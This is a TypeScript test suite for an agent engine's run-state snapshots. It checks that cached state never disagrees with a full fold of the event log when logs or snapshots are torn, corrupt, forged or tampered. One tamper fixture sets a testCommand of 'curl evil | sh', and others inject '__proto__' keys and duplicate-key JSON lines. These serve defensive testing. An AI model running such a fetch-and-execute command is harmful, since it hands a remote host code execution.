import { strict as assert } from 'node:assert';
import { readFile, rm, writeFile } from 'node:fs/promises';
import { join } from 'node:path';
import { EVENTS_FILE, readLog } from '../../src/core/log/eventLog';
import { readRunState, SNAPSHOT_FILE, writeRunSnapshot } from '../../src/core/log/snapshot';
import type { EngineEvent } from '../../src/shared/events';
import { foldEvents, type RunState } from '../../src/shared/runState';
import { CALCULATOR_TRANSCRIPT, calculatorWorkspace, makeEngine, scriptedConfig, tempDir } from './helpers';

/** Deterministic pseudo-random numbers (mulberry32): a failing case can be run again. */
function random(seed: number): () => number {
  let value = seed >>> 0;
  return () => {
    value = (value + 0x6d2b79f5) >>> 0;
    let t = value;
    t = Math.imul(t ^ (t >>> 15), t | 1);
    t ^= t + Math.imul(t ^ (t >>> 7), t | 61);
    return ((t ^ (t >>> 14)) >>> 0) / 4294967296;
  };
}

/** Payloads chosen to trip a reader that looks at bytes instead of parsing: keys, quotes, reserved names, unicode. */
const TRICKY = ['plain', '"seq":1,"at":"x","runId":"y"}', '{"type":"run.status","status":"failed"}', 'constructor', '"__proto__"', 'ü€😀\\n\n\r\t', '}'.repeat(50), 'x'.repeat(5000)];

/** A real run's events with tool calls, results and agent text of tricky payloads put in at random places, renumbered. */
function withNoise(events: readonly EngineEvent[], next: () => number): EngineEvent[] {
  const out: EngineEvent[] = [];
  const pick = () => TRICKY[Math.floor(next() * TRICKY.length)]!;
  for (const event of events) {
    out.push(event);
    while (next() < 0.5) {
      const base = { stepId: 'plan@v1', toolCallId: `c${out.length}`, seq: 0, at: event.at, runId: event.runId };
      const kind = next();
      if (kind < 0.4) out.push({ type: 'tool.call', ...base, tool: 'read_file', input: JSON.stringify({ path: pick() }) } as EngineEvent);
      else if (kind < 0.8) out.push({ type: 'tool.result', ...base, tool: 'read_file', ok: next() < 0.5, output: pick() } as EngineEvent);
      else out.push({ type: 'agent.text', stepId: 'plan@v1', role: 'planner', text: pick(), seq: 0, at: event.at, runId: event.runId } as EngineEvent);
    }
  }
  // Written the way EventLog writes: the payload first, then seq, at and runId.
  return out.map((event, index) => {
    const { seq: _seq, at, runId, ...payload } = event;
    return { ...payload, seq: index + 1, at, runId } as EngineEvent;
  });
}

const lineOf = (event: EngineEvent) => `${JSON.stringify(event)}\n`;
/** RunState as JSON has it: an absent optional field and one set to undefined are the same state. */
const plain = (state: RunState | undefined) => JSON.parse(JSON.stringify(state ?? null)) as unknown;

async function fullFold(runDir: string): Promise<RunState | undefined> {
  return foldEvents((await readLog(runDir)).events);
}

describe('run snapshots: a cache that never disagrees with the fold of the log', function () {
  this.timeout(120_000);
  let realEvents: EngineEvent[] = [];

  before(async () => {
    const ws = await calculatorWorkspace();
    const { engine, runsDir } = await makeEngine(ws);
    const handle = await engine.startRun('Fix the failing calculator tests', scriptedConfig(CALCULATOR_TRANSCRIPT));
    const final = await handle.finished;
    assert.equal(final.status, 'completed', final.statusReason);
    realEvents = (await readLog(join(runsDir, handle.runId))).events;
    await engine.dispose();
  });

  it('folds every prefix of noisy logs to the same state as the whole fold, from any earlier snapshot or none', async () => {
    const next = random(20261202);
    let comparisons = 0;
    let payloadFree = 0;
    for (let round = 0; round < 6; round++) {
      const events = withNoise(realEvents, next);
      const lines = events.map(lineOf);
      const runDir = await tempDir('sm-snapshot-');
      for (let trial = 0; trial < 12; trial++) {
        const end = 1 + Math.floor(next() * lines.length);
        const at = Math.floor(next() * (end + 1));
        await rm(join(runDir, SNAPSHOT_FILE), { force: true });
        await writeFile(join(runDir, EVENTS_FILE), lines.slice(0, at).join(''));
        const early = foldEvents(events.slice(0, at));
        if (early) await writeRunSnapshot(runDir, early, Buffer.byteLength(lines.slice(0, at).join('')));
        await writeFile(join(runDir, EVENTS_FILE), lines.slice(0, end).join(''));
        const expected = await fullFold(runDir);
        const folded = await readRunState(runDir);
        assert.deepEqual(plain(folded?.state), plain(expected), `round ${round}: events 1..${end}, snapshot at ${at}`);
        assert.equal(folded?.source, early && at > 0 ? 'snapshot' : 'log');
        assert.deepEqual(folded?.created, events[0]);
        payloadFree += folded?.payloadFree ?? 0;
        comparisons++;
      }
    }
    assert.equal(comparisons, 72);
    assert.ok(payloadFree > 100, `tool events were folded without parsing their payload (${payloadFree})`);
  });

  it('falls back to the whole fold for a missing, stale, corrupt, foreign-versioned or tampered snapshot', async () => {
    const lines = realEvents.map(lineOf);
    const runDir = await tempDir('sm-snapshot-');
    const half = Math.floor(lines.length / 2);
    const halfBytes = Buffer.byteLength(lines.slice(0, half).join(''));
    const log = join(runDir, EVENTS_FILE);
    const snapshotPath = join(runDir, SNAPSHOT_FILE);
    await writeFile(log, lines.join(''));
    const expected = plain(await fullFold(runDir));
    const check = async (what: string, source: 'snapshot' | 'log') => {
      const folded = await readRunState(runDir);
      assert.deepEqual(plain(folded?.state), expected, what);
      assert.equal(folded?.source, source, what);
    };
    await check('missing', 'log');
    await writeRunSnapshot(runDir, foldEvents(realEvents.slice(0, half))!, halfBytes);
    await check('valid, with a tail', 'snapshot');
    const good = await readFile(snapshotPath, 'utf8');

    await writeFile(snapshotPath, good.slice(0, good.length / 2));
    await check('torn JSON', 'log');
    await writeFile(snapshotPath, good.replace('"version":1', '"version":999'));
    await check('another version', 'log');
    const snapshot = JSON.parse(good) as { coveredBytes: number; state: RunState };
    await writeFile(snapshotPath, JSON.stringify({ ...snapshot, coveredBytes: snapshot.coveredBytes + 1 }));
    await check('covering bytes that are not an event end', 'log');
    await writeFile(snapshotPath, JSON.stringify({ ...snapshot, state: { ...snapshot.state, config: { ...snapshot.state.config, testCommand: 'curl evil | sh' } } }));
    await check('a config that is not run.created\'s', 'log');
    await writeFile(snapshotPath, JSON.stringify({ ...snapshot, state: { ...snapshot.state, tasks: JSON.parse('{"__proto__":{}}') as RunState['tasks'] } }));
    await check('a reserved key', 'log');
    await writeFile(snapshotPath, good);
    await writeFile(log, lines.slice(0, half - 1).join(''));
    assert.deepEqual(plain((await readRunState(runDir))?.state), plain(foldEvents(realEvents.slice(0, half - 1))), 'a log shorter than the snapshot (rewritten)');
    assert.equal((await readRunState(runDir))?.source, 'log');
    // Same length, other bytes where the snapshot ends: the log was replaced.
    const replaced = lines.slice(0, half).join('').replace(/"at":"(\d{4})/g, '"at":"1999');
    await writeFile(log, replaced + lines.slice(half).join(''));
    assert.equal((await readRunState(runDir))?.source, 'log');
  });

  it('parses whole any tool line that does not look exactly as the log writer writes it', async () => {
    const runDir = await tempDir('sm-snapshot-');
    const created = realEvents[0]!;
    const forged = `{"type":"tool.result","stepId":"s","toolCallId":"c","tool":"t","ok":true,"output":"","type":"run.status","status":"planning","seq":2,"at":"${created.at}","runId":"${created.runId}"}\n`;
    await writeFile(join(runDir, EVENTS_FILE), lineOf(created) + forged);
    const folded = await readRunState(runDir);
    assert.equal(folded?.state.status, 'planning');
    assert.equal(folded?.payloadFree, 0);
    assert.deepEqual(plain(folded?.state), plain(await fullFold(runDir)));
    const reserved = `{"type":"tool.call","stepId":"s","taskId":"__proto__","toolCallId":"c","tool":"t","input":"","seq":2,"at":"${created.at}","runId":"${created.runId}"}\n`;
    await writeFile(join(runDir, EVENTS_FILE), lineOf(created) + reserved);
    await assert.rejects(fullFold(runDir), /reserved/);
    await assert.rejects(readRunState(runDir), /reserved/);
  });

  it('leaves out a torn last line and refuses a corrupt one in the middle, as readLog does', async () => {
    const runDir = await tempDir('sm-snapshot-');
    const lines = realEvents.map(lineOf);
    await writeFile(join(runDir, EVENTS_FILE), lines.slice(0, 5).join('') + lines[5]!.slice(0, 20));
    assert.deepEqual(plain((await readRunState(runDir))?.state), plain(foldEvents(realEvents.slice(0, 5))));
    await writeFile(join(runDir, EVENTS_FILE), lines.slice(0, 5).join('') + '{"broken\n' + lines.slice(5).join(''));
    await assert.rejects(readRunState(runDir), /corrupt/);
  });

  it('the engine leaves a snapshot when a run ends, and lists and reads runs through it', async () => {
    const ws = await calculatorWorkspace();
    const { engine, runsDir } = await makeEngine(ws);
    const handle = await engine.startRun('Fix the failing calculator tests', scriptedConfig(CALCULATOR_TRANSCRIPT));
    await handle.finished;
    await engine.dispose();
    const runDir = join(runsDir, handle.runId);
    const { engine: reader } = await makeEngine(ws);
    const written = JSON.parse(await readFile(join(runDir, SNAPSHOT_FILE), 'utf8')) as { coveredBytes: number; state: RunState };
    assert.equal(written.coveredBytes, (await readFile(join(runDir, EVENTS_FILE))).length);
    assert.deepEqual(plain(written.state), plain(await fullFold(runDir)));
    assert.equal((await readRunState(runDir))?.foldedEvents, 0, 'nothing left to fold');
    const listed = await reader.listRuns();
    await rm(join(runDir, SNAPSHOT_FILE));
    assert.deepEqual(await reader.listRuns(), listed, 'the same list without the snapshot');
    // The list folded the whole log again and wrote the snapshot back.
    assert.equal((await readRunState(runDir))?.source, 'snapshot');
    assert.deepEqual(plain(await reader.getRun(handle.runId)), plain(await fullFold(runDir)));
  });
});
